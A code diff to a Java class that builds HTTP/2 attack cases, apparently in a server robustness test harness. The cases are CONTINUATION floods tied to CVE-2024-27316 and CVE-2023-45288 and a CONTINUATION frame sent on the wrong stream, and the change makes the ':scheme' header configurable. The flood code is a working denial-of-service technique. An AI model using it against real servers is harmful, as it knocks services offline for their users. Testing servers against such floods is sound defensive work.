@@ -30,7 +30,11 @@ public final class Continuations {
     /** Small frames of fields without end. */
     public static Http2Attack flood() {
         return Http2Attack.begun("CONTINUATION flood, CVE-2024-27316", (wire, _, size) -> {
-            wire.frame(HEADERS, END_STREAM, 1, wire.block(":method: GET", ":scheme: http", ":path: /plaintext"));
+            wire.frame(
+                    HEADERS,
+                    END_STREAM,
+                    1,
+                    wire.block(":method: GET", ":scheme: " + wire.scheme(), ":path: /plaintext"));
             for (int i = 0; i < size; i++) {
                 wire.frame(CONTINUATION, 0, 1, wire.block("x-" + i + ": " + i));
             }
@@ -40,7 +44,11 @@ public final class Continuations {
     /** The same with frames as large as they may be, each of one field that is not indexed. */
     public static Http2Attack fullFrames() {
         return Http2Attack.begun("CONTINUATION flood of full frames, CVE-2023-45288", (wire, _, size) -> {
-            wire.frame(HEADERS, END_STREAM, 1, wire.block(":method: GET", ":scheme: http", ":path: /plaintext"));
+            wire.frame(
+                    HEADERS,
+                    END_STREAM,
+                    1,
+                    wire.block(":method: GET", ":scheme: " + wire.scheme(), ":path: /plaintext"));
             for (int i = 0; i < size; i++) {
                 wire.frame(CONTINUATION, 0, 1, HpackAttacks.literal("x", "v".repeat(FULL - 10)));
             }
@@ -87,7 +95,7 @@ public final class Continuations {
     public static Http2Attack onAnotherStream() {
         return Http2Attack.begun("CONTINUATION on another stream", (wire, _, _) -> {
             wire.frame(HEADERS, END_STREAM, 1, wire.block(":method: GET"));
-            wire.frame(CONTINUATION, END_HEADERS, 3, wire.block(":scheme: http"));
+            wire.frame(CONTINUATION, END_HEADERS, 3, wire.block(":scheme: " + wire.scheme()));
         });
     }
 }
